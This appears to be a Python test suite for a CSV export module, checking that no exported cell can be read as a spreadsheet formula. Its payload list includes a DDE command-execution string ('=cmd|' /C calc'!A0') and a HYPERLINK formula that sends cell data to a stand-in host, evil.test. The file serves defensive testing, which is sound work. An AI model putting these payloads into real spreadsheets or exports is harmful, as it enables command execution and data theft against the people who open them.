"""CSV: whatever a cell holds, a spreadsheet shows it and runs nothing."""

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from msgrun.ui.csv import COLUMNS, cell, write_csv

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?"&A1,"x")',
    '"=1+1',
    '\t"=1+1',
    'x;"=1+1',
    "x;=1+1",
    "x; =1+1",
    'x";=1+1',
    "x\n=1+1",
    "x\r\n=1+1",
    "x\t=1+1",
    "-5+3",
    "+49 30 1234",
    "-",
    "=",
    "--5",
    "-5;=1",
]
_RUNS = re.compile(r"[\s\x00-\x1f\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠]")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def message(text: str) -> dict[str, Any]:
    """A message in which everything that comes from outside is `text`."""
    return {
        **dict.fromkeys(COLUMNS, text),
        "message": 1,
        "run": 1,
        "invoices": [{"id": text, "number": text}, {"id": text, "number": None}],
        "to": [text, text],
        "attempts": 1,
        "refused": [{"address": text, "reply": text}],
    }


def as_spreadsheets_read(written: str) -> list[str]:
    """Return every cell that a spreadsheet may make of it, whichever its separator is."""
    cells = [each for row in csv.reader(io.StringIO(written, newline="")) for each in row]
    # With another separator, the quotes of ours stand inside a cell and hold no line together.
    for separator in (";", "\t"):
        for line in re.split(r"\r\n|\r|\n", written):
            cells += [each.strip('"') for each in line.split(separator)]
    return cells


def assert_harmless(written: str) -> None:
    for read in as_spreadsheets_read(written):
        assert not _RUNS.match(read) or _NUMBER.fullmatch(read), repr(read)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_column_of_the_export_can_be_a_formula(text: str) -> None:
    stream = io.StringIO(newline="")

    write_csv([message(text)], stream)

    assert_harmless(stream.getvalue())


@settings(max_examples=500, deadline=None)
@given(
    st.lists(st.sampled_from(list("=+-@\t\r\n;, \"'x5.|＝＠\u200b\ufeff")), max_size=12).map(
        "".join
    )
)
def test_nothing_that_can_be_written_is_a_formula(text: str) -> None:
    stream = io.StringIO(newline="")

    write_csv([message(text)], stream)

    assert_harmless(stream.getvalue())


@pytest.mark.parametrize(
    "text", ["-12.50", "+5", "7", "Acme", "a-b", "a=b", "x@acme.test", "550 5.1.1 a, -b", "", "'x"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_the_text_is_there_behind_its_quote() -> None:
    rows = csv.DictReader(io.StringIO(cell_file("=1+1"), newline=""))

    assert next(rows)["customer"] == "'=1+1"


def cell_file(text: str) -> str:
    stream = io.StringIO(newline="")
    write_csv([message(text)], stream)
    return stream.getvalue()
